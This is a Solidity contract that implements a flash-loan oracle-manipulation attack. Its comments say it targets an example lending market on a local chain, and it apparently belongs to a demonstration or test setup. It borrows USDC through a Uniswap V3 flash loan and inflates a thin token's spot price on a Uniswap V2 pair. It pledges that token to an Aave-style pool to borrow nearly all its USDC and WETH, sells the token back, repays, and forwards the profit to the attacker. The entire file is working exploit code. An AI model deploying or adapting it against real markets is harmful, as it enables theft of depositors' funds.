// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.24;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {SafeERC20} from "@openzeppelin/contracts/token/ERC20/utils/SafeERC20.sol";
import {IAaveOracle, IAavePool} from "../interfaces/IAave.sol";
import {IUniswapV2Pair} from "../interfaces/IUniswapV2.sol";
import {IUniswapV3FlashCallback, IUniswapV3Pool} from "../interfaces/IUniswapV3.sol";

/// @title OracleManipulation
/// @notice ATTACK, for the example market on a local chain. Borrows USDC for one transaction, buys the thin token
/// until its spot price is absurd, pledges a part of it at that price, borrows the market empty, sells the rest of
/// the token back and repays.
contract OracleManipulation is IUniswapV3FlashCallback {
    using SafeERC20 for IERC20;

    struct Plan {
        IUniswapV3Pool lender;
        IUniswapV2Pair pair;
        IAavePool pool;
        IAaveOracle oracle;
        IERC20 usdc;
        IERC20 weth;
        IERC20 volt;
        /// The aTokens that hold the market's cash.
        address aUsdc;
        address aWeth;
        /// Loan-to-value of the thin token, basis points.
        uint256 ltv;
    }

    address private immutable _attacker;
    Plan private _plan;

    error NotAttacker();
    error UnexpectedCaller();

    constructor(Plan memory plan) {
        _attacker = msg.sender;
        _plan = plan;
    }

    /// @notice Runs the attack with `amount` USDC borrowed.
    function run(uint256 amount) external {
        if (msg.sender != _attacker) revert NotAttacker();
        Plan memory plan = _plan;
        bool usdcIs0 = plan.lender.token0() == address(plan.usdc);
        plan.lender.flash(address(this), usdcIs0 ? amount : 0, usdcIs0 ? 0 : amount, abi.encode(amount));
        plan.usdc.safeTransfer(_attacker, plan.usdc.balanceOf(address(this)));
        plan.weth.safeTransfer(_attacker, plan.weth.balanceOf(address(this)));
    }

    /// @inheritdoc IUniswapV3FlashCallback
    function uniswapV3FlashCallback(uint256 fee0, uint256 fee1, bytes calldata data) external {
        Plan memory plan = _plan;
        if (msg.sender != address(plan.lender)) revert UnexpectedCaller();
        uint256 amount = abi.decode(data, (uint256));

        _swap(plan.pair, plan.usdc, amount);

        uint256 cashUsdc = plan.usdc.balanceOf(plan.aUsdc) * 99 / 100;
        uint256 cashWeth = plan.weth.balanceOf(plan.aWeth) * 99 / 100;
        // Values in US dollars with 8 decimals; 2 % more collateral than needed, because Aave rounds against us.
        uint256 debt = cashUsdc * plan.oracle.getAssetPrice(address(plan.usdc)) / 1e6 + cashWeth
            * plan.oracle.getAssetPrice(address(plan.weth)) / 1e18;
        uint256 collateral = debt * 10_200 / plan.ltv * 1e18 / plan.oracle.getAssetPrice(address(plan.volt));

        plan.volt.forceApprove(address(plan.pool), collateral);
        plan.pool.supply(address(plan.volt), collateral, address(this), 0);
        plan.pool.borrow(address(plan.usdc), cashUsdc, 2, 0, address(this));
        plan.pool.borrow(address(plan.weth), cashWeth, 2, 0, address(this));

        _swap(plan.pair, plan.volt, plan.volt.balanceOf(address(this)));
        plan.usdc.safeTransfer(msg.sender, amount + fee0 + fee1);
    }

    function _swap(IUniswapV2Pair pair, IERC20 tokenIn, uint256 amountIn) private {
        bool zeroForOne = pair.token0() == address(tokenIn);
        (uint256 reserve0, uint256 reserve1,) = pair.getReserves();
        (uint256 reserveIn, uint256 reserveOut) = zeroForOne ? (reserve0, reserve1) : (reserve1, reserve0);
        uint256 amountOut = amountIn * 997 * reserveOut / (reserveIn * 1000 + amountIn * 997);
        tokenIn.safeTransfer(address(pair), amountIn);
        (uint256 out0, uint256 out1) = zeroForOne ? (uint256(0), amountOut) : (amountOut, uint256(0));
        pair.swap(out0, out1, address(this), "");
    }
}
